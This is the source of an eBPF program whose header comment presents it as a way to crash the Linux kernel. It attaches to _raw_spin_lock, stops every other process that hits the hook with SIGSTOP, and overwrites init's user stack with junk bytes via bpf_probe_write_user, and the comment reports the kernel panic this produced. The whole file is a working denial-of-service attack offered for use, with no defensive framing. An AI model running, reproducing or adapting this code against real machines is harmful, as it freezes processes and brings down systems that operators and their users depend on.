/* Crashes the kernel: ruins init's stack, init dies of it, the kernel panics.
 *
 * Measured on 5.10 and 7.3: "init[1]: segfault at 0 ...", then "Kernel panic -
 * not syncing: Attempted to kill init! exitcode=0x0000000b".
 *
 * bpf_probe_write_user() writes into the current process, and a process whose lock is being taken is one.  Who asks
 * about the program, and who waits for that one, are stopped, so nobody takes it off; init, which is told of it and
 * wakes now and then anyway, runs the program by the scheduler's lock, and returns from its system call to address 0.
 */
#include "vmlinux.h"
#include <bpf/bpf_core_read.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>

char LICENSE[] SEC("license") = "GPL";

#define SIGSTOP 19
#define PIECE 256
#define PIECES 24

char ruin[PIECE] = { 0x42, 0x42, 0x42, 0x42, 0x42, 0x42, 0x42, 0x42 };

SEC("fentry/_raw_spin_lock")
int BPF_PROG(on_lock)
{
	struct task_struct *task = (void *)bpf_get_current_task();
	__u32 pid = bpf_get_current_pid_tgid() >> 32;
	unsigned long top;

	if (pid != 1) {
		bpf_send_signal(SIGSTOP);
		return 0;
	}
	top = BPF_CORE_READ(task, mm, start_stack);
	for (int i = 1; i <= PIECES; i++)
		bpf_probe_write_user((void *)(top - i * PIECE), ruin, PIECE);
	return 0;
}
